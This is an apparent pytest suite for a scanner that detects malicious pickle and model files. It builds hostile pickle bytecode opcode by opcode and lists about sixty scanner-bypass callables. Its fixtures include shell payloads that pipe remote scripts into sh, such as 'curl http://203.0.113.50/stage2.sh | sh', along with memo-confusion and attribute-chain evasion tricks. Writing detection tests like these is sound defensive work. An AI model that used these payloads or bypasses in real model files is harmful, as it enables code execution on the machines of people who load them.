"""The pickle opcode analyzer: every bypass family from the peers' trackers and advisories, built
opcode by opcode, plus limits and property tests. Nothing here is ever unpickled."""

from __future__ import annotations

import pickle
import struct
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labwarden.checks.modelfile import pickle_scan, pickle_vm
from labwarden.checks.modelfile.lists import load_policy
from labwarden.checks.modelfile.pickle_scan import PickleAnalyzer
from labwarden.checks.modelfile.samples import shell_payload, sklearn_estimator, torch_state_dict
from labwarden.core.values import Severity

from .builders import global_call, proto, rules, scan, stack_global_call, su, worst

POLICY = load_policy()


def analyze(data: bytes) -> pickle_scan.PickleReport:
    return PickleAnalyzer(POLICY).analyze(data)


def callables(data: bytes, name: str = "m.pkl") -> dict[str, Severity]:
    return {
        str(f.evidence.get("callable")): f.severity
        for f in scan(data, name)
        if f.evidence.get("callable")
    }


# Unlisted or once-unlisted callables from picklescan, modelscan, fickling and ModelAudit
# advisories; each must be at least high whichever import opcode brings it in.
BYPASS_CALLABLES = [
    ("os", "system"),
    ("posix", "system"),
    ("nt", "system"),
    ("subprocess", "Popen"),
    ("builtins", "eval"),
    ("builtins", "exec"),
    ("__builtin__", "eval"),
    ("builtins", "getattr"),
    ("builtins", "open"),
    ("torch.utils.collect_env", "run"),
    ("multiprocessing.util", "spawnv_passfds"),
    ("pandas", "read_csv"),
    ("pandas.io.parsers", "read_csv"),
    ("importlib", "import_module"),
    ("pkgutil", "resolve_name"),
    ("operator", "attrgetter"),
    ("_operator", "methodcaller"),
    ("functools", "partial"),
    ("mailcap", "findmatch"),
    ("pty", "spawn"),
    ("_interpreters", "run_string"),
    ("_xxsubinterpreters", "run_string"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("profile", "run"),
    ("cProfile", "runctx"),
    ("trace", "Trace.runctx"),
    ("pdb", "run"),
    ("bdb", "Bdb.run"),
    ("timeit", "timeit"),
    ("doctest", "debug_script"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
    ("numpy.f2py.crackfortran", "getlincoef"),
    ("numpy.testing._private.utils", "runstring"),
    ("distutils.file_util", "write_file"),
    ("_io", "FileIO"),
    ("shutil", "rmtree"),
    ("pip", "main"),
    ("venv", "create"),
    ("ensurepip", "_run_pip"),
    ("imaplib", "IMAP4_stream"),
    ("code", "InteractiveInterpreter.runsource"),
    ("marshal", "loads"),
    ("types", "FunctionType"),
    ("ctypes", "CDLL"),
    ("runpy", "_run_code"),
    ("webbrowser", "open"),
    ("socket", "create_connection"),
    ("requests", "get"),
    ("urllib.request", "urlopen"),
    ("uuid", "_get_command_stdout"),
    ("platform", "popen"),
    ("torch", "load"),
    ("torch.hub", "load"),
    ("torch.jit", "load"),
    ("numpy", "load"),
    ("_posixsubprocess", "fork_exec"),
    ("dill._dill", "_create_code"),
    ("cloudpickle.cloudpickle", "subimport"),
    ("picklescan.scanner", "scan_pickle_bytes"),
    ("copyreg", "add_extension"),
    ("sys", "modules"),
]


@pytest.mark.parametrize(("module", "name"), BYPASS_CALLABLES)
def test_dangerous_callables_are_high_or_critical(module: str, name: str) -> None:
    for data in (stack_global_call(module, name, "id"), global_call(module, name, "id")):
        found = scan(data)
        assert worst(found) is not None and worst(found) >= Severity.HIGH, (module, name)
        dangerous = [f for f in found if f.rule == "dangerous-import"]
        assert dangerous, (module, name, [f.message for f in found])
        assert dangerous[0].evidence["callable"] == f"{module}.{name}"
        assert dangerous[0].remediation


def test_finding_names_offset_opcode_and_reason() -> None:
    data = stack_global_call("os", "system", "id")
    (finding,) = [f for f in scan(data) if f.rule == "dangerous-import"]
    assert finding.severity is Severity.CRITICAL
    assert finding.location.offset == data.index(b"\x93")
    assert "STACK_GLOBAL imports os.system" in finding.message
    assert "shell command" in finding.message
    assert finding.evidence["called_by"].startswith("REDUCE")


@pytest.mark.parametrize("protocol", [0, 1, 2, 3, 4, 5])
def test_plain_data_at_every_protocol_is_clean(protocol: int) -> None:
    value = {
        "weights": [1.5, -2.0, 3e10] * 10,
        "names": ("a", "b", "c" * 40),
        "blob": bytes(range(256)),
        "nested": [{"k": i, "s": {1, 2}, "f": frozenset({3})} for i in range(50)],
        "none": None,
        "flag": True,
        "big": 1 << 100,
    }
    data = pickle.dumps(value, protocol=protocol)
    report = analyze(data)
    assert report.hits == [], [h.message for h in report.hits]
    assert report.streams == 1


def test_inst_and_obj_opcodes() -> None:
    inst = b"(S'id'\nios\nsystem\n."
    obj = b"(cos\nsystem\nS'id'\no."
    assert callables(inst) == {"os.system": Severity.CRITICAL}
    assert callables(obj) == {"os.system": Severity.CRITICAL}


def test_stack_global_from_memoized_strings() -> None:
    data = proto(4) + su("os") + b"\x94" + su("system") + b"\x94" + b"h\x00h\x01\x93" + su("id")
    data += b"\x85R."
    assert callables(data) == {"os.system": Severity.CRITICAL}


def test_memo_confusion_put_then_memoize() -> None:
    # picklescan#14: MEMOIZE numbers entries len(memo), not "MEMOIZE count"; mixing PUT and
    # MEMOIZE makes a naive scanner read the wrong string back.
    data = proto(4)
    data += su("collections") + b"q\x01"  # memo = {1: 'collections'}
    data += su("os") + b"\x94"  # MEMOIZE writes index len(memo) == 1: memo = {1: 'os'}
    data += b"h\x01" + su("system") + b"\x93" + su("id") + b"\x85R."
    assert callables(data) == {"os.system": Severity.CRITICAL}


def test_memo_confusion_binput_and_memoize_mix() -> None:
    data = proto(4)
    data += b"T" + struct.pack("<I", 2) + b"os" + b"q\x00"
    data += b"T" + struct.pack("<I", 6) + b"system" + b"q\x01"
    data += su("torch._utils") + b"\x94" + su("_rebuild_tensor_v2") + b"\x94"
    data += b"h\x00h\x01\x93" + su("id") + b"\x85R."
    assert callables(data)["os.system"] is Severity.CRITICAL


def test_stack_global_of_computed_name_is_critical() -> None:
    # The module name is the result of a call: no scanner can know it statically.
    data = proto(4) + su("builtins") + su("str") + b"\x93" + su("os") + b"\x85R"
    data += su("system") + b"\x93" + su("id") + b"\x85R."
    found = scan(data)
    assert "dynamic-import" in rules(found)
    assert worst(found) is Severity.CRITICAL


def test_build_setattr_trick_on_a_global() -> None:
    # modelscan#85: BUILD's slot state setattr()s onto numpy.prod, then GLOBAL reads it back.
    data = proto(4) + b"cnumpy\nprod\n" + b"N(Va\nVos\nd\x86" + b"b"
    data += b"N(Vb\nVsystem\nd\x86" + b"b0"
    data += b"cnumpy\nprod.a\np0\n" + b"cnumpy\nprod.b\np1\n" + b"00"
    data += b"g0\ng1\n\x93" + b"Vecho pwned\n\x85R."
    found = scan(data)
    assert "build-on-import" in rules(found)
    assert "dynamic-import" in rules(found)
    assert worst(found) is Severity.CRITICAL


def test_attribute_chain_through_an_allowed_module() -> None:
    data = stack_global_call("torch", "os.system", "id")
    assert callables(data)["torch.os.system"] is Severity.CRITICAL
    data = stack_global_call("numpy", "__builtins__", "x")
    assert callables(data)["numpy.__builtins__"] is Severity.CRITICAL
    data = stack_global_call("collections", "OrderedDict.__init__.__globals__", "x")
    assert worst(scan(data)) is Severity.CRITICAL


def test_importlib_and_getattr_chain() -> None:
    data = proto(4) + su("importlib") + su("import_module") + b"\x93" + su("os") + b"\x85R"
    data += b"\x94" + su("builtins") + su("getattr") + b"\x93" + b"h\x00" + su("system")
    data += b"\x86R" + su("id") + b"\x85R."
    found = callables(data)
    assert found["importlib.import_module"] is Severity.CRITICAL
    assert found["builtins.getattr"] is Severity.CRITICAL


def test_nested_pickle_loads() -> None:
    inner = stack_global_call("os", "system", "id")
    data = proto(4) + su("pickle") + su("loads") + b"\x93"
    data += b"C" + bytes([len(inner)]) + inner + b"\x85R."
    found = scan(data)
    assert callables(data)["pickle.loads"] is Severity.CRITICAL
    (nested,) = [f for f in found if f.rule == "nested-pickle"]
    assert "os.system" in nested.message
    assert nested.evidence["nested_worst"] == "critical"


def test_base64_and_hex_nested_pickles_take_the_inner_verdict() -> None:
    import base64

    inner = stack_global_call("os", "system", "id")
    harmless = proto(4) + b"}" + su("weights") + su("x") + b"s."
    for encoded in (base64.b64encode(inner).decode(), inner.hex()):
        data = proto(4) + b"}" + su("payload") + su(encoded) + b"s."
        found = scan(data)
        assert [f.rule for f in found] == ["nested-pickle"]
        assert found[0].severity is Severity.CRITICAL
    data = proto(4) + b"}" + su("payload") + su(base64.b64encode(harmless).decode()) + b"s."
    assert [f.severity for f in scan(data)] == [Severity.MEDIUM]


def test_several_pickles_in_one_file() -> None:
    first = proto(4) + b"}" + su("model") + su("weights") + b"s."
    second = stack_global_call("builtins", "eval", "1+1")
    found = scan(first + second)
    assert "multiple-pickles" in rules(found)
    (dangerous,) = [f for f in found if f.rule == "dangerous-import"]
    assert dangerous.location.offset == len(first) + second.index(b"\x93")


def test_unknown_import_is_medium_and_high_once_it_runs() -> None:
    reference = proto(4) + su("mylab.models") + su("Scorer") + b"\x93."
    assert callables(reference) == {"mylab.models.Scorer": Severity.MEDIUM}
    plain = stack_global_call("mylab.models", "Scorer", "default")
    assert callables(plain) == {"mylab.models.Scorer": Severity.HIGH}
    built = proto(4) + su("mylab.models") + su("Scorer") + b"\x93)\x81}b."
    assert callables(built) == {"mylab.models.Scorer": Severity.HIGH}
    own = proto(4) + su("__main__") + su("Scorer") + b"\x93)\x81}b."
    assert callables(own) == {"__main__.Scorer": Severity.MEDIUM}
    shell = stack_global_call("mylab.tools", "launch", "curl http://203.0.113.9/x.sh | sh")
    assert callables(shell)["mylab.tools.launch"] is Severity.HIGH


def test_private_module_is_high() -> None:
    assert (
        callables(stack_global_call("_mystery", "helper", "x"))["_mystery.helper"] is Severity.HIGH
    )


def test_extension_registry_import_is_high() -> None:
    data = proto(2) + b"\x82\x01" + b"(S'id'\ntR."
    assert "extension-import" in rules(scan(data))


def test_allowed_state_dict_and_estimator_are_clean() -> None:
    assert scan(torch_state_dict([("w", (4, 4)), ("b", (4,))])) == []
    assert scan(sklearn_estimator([0.5, -0.25]), "model.joblib") == []


def test_demo_shell_payload_is_critical() -> None:
    found = scan(shell_payload("curl -s http://203.0.113.50/stage2.sh | sh"))
    assert worst(found) is Severity.CRITICAL


def test_legacy_torch_file_stops_before_raw_storage() -> None:
    magic = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    protocol = b"\x80\x02M\xe9\x03."
    sys_info = pickle.dumps({"little_endian": True}, protocol=2)
    main = torch_state_dict([("w", (2, 2))])
    keys = pickle.dumps(["0"], protocol=2)
    raw = struct.pack("<q", 4) + b"cos\nsystem\n" + b"\x00" * 64  # tensor bytes, never unpickled
    found = scan(magic + protocol + sys_info + main + keys + raw, "model.pt")
    assert found == []


def test_proto0_strings_and_escapes() -> None:
    data = b"(dp0\nS'cmd'\np1\nS'rm -rf /tmp/x && curl http://198.51.100.4/a'\np2\ns."
    assert "suspicious-string" in rules(scan(data))


def test_truncated_pickle_still_reports_what_ran() -> None:
    data = stack_global_call("os", "system", "id")[:-1]
    found = scan(data)
    assert {"dangerous-import", "truncated-pickle"} <= rules(found)


def test_garbage_after_header_is_a_finding_not_a_crash() -> None:
    found = scan(proto(4) + b"\xff\xfe\xfd")
    assert rules(found) == {"malformed-pickle", "unparseable"}
    assert worst(found) is Severity.HIGH


def test_deep_nesting_is_bounded() -> None:
    data = proto(4) + b"(" * 600_000 + b"N."
    start = time.perf_counter()
    found = scan(data)
    assert time.perf_counter() - start < 10
    assert "mark-flood" in rules(found)


def test_opcode_flood_is_bounded() -> None:
    data = proto(4) + b"N" * 2_100_000 + stack_global_call("os", "system", "id")[2:]
    start = time.perf_counter()
    found = scan(data)
    assert time.perf_counter() - start < 10
    assert {"stack-flood", "dangerous-import"} <= rules(found)


def test_huge_memo_indices_do_not_allocate() -> None:
    data = proto(4) + su("os") + b"r\xff\xff\xff\xff" + su("system") + b"r\xfe\xff\xff\xff"
    data += b"j\xff\xff\xff\xffj\xfe\xff\xff\xff\x93" + su("id") + b"\x85R."
    assert callables(data) == {"os.system": Severity.CRITICAL}


def test_memo_flood_is_reported(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pickle_vm, "MAX_MEMO", 1000)
    monkeypatch.setattr(pickle_vm, "CHECK_EVERY", 64)
    data = proto(4) + b"]" + (b"(" + b"N\x94" * 500 + b"e") * 4 + b"."
    assert "memo-flood" in rules(scan(data))


def test_get_of_unset_memo_is_malformed() -> None:
    found = scan(proto(4) + b"h\x05.")
    assert rules(found) == {"malformed-pickle", "unparseable"}


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=400))
def test_random_bytes_never_crash(tail: bytes) -> None:
    for head in (b"\x80\x04", b"\x80\x02", b"("):
        report = analyze(head + tail)
        assert report.streams >= 1


@settings(max_examples=100, deadline=None)
@given(
    st.recursive(
        st.none()
        | st.booleans()
        | st.integers()
        | st.floats(allow_nan=False)
        | st.text()
        | st.binary(),
        lambda children: (
            st.lists(children, max_size=5)
            | st.dictionaries(st.text(max_size=5), children, max_size=5)
            | st.tuples(children, children)
        ),
        max_leaves=30,
    ),
    st.integers(min_value=0, max_value=5),
)
def test_plain_values_never_raise_high(value: object, protocol: int) -> None:
    report = analyze(pickle.dumps(value, protocol=protocol))
    assert all(h.severity < Severity.HIGH for h in report.hits), [h.message for h in report.hits]
    assert not any(h.rule in ("malformed-pickle", "truncated-pickle") for h in report.hits)


@settings(max_examples=150, deadline=None)
@given(st.binary(min_size=1, max_size=60), st.integers(min_value=0, max_value=200))
def test_mutated_malicious_pickle_never_crashes(noise: bytes, where: int) -> None:
    base = stack_global_call("os", "system", "touch /tmp/x")
    cut = where % len(base)
    analyze(base[:cut] + noise + base[cut:])


def test_joblib_raw_arrays_are_skipped_and_what_follows_is_analyzed() -> None:
    # arrays.joblib: joblib.dump of int64, float32 and object arrays (raw bytes between opcodes).
    data = (
        Path(__file__).resolve().parents[2] / "data" / "modelfile" / "arrays.joblib"
    ).read_bytes()
    assert scan(data, "arrays.joblib") == []
    assert data.endswith(b"u.")
    evil = data[:-1] + su("os") + su("system") + b"\x93" + su("id") + b"\x85R0."
    (finding,) = scan(evil, "arrays.joblib")
    assert finding.severity is Severity.CRITICAL and finding.location.offset == len(data) - 1 + 12
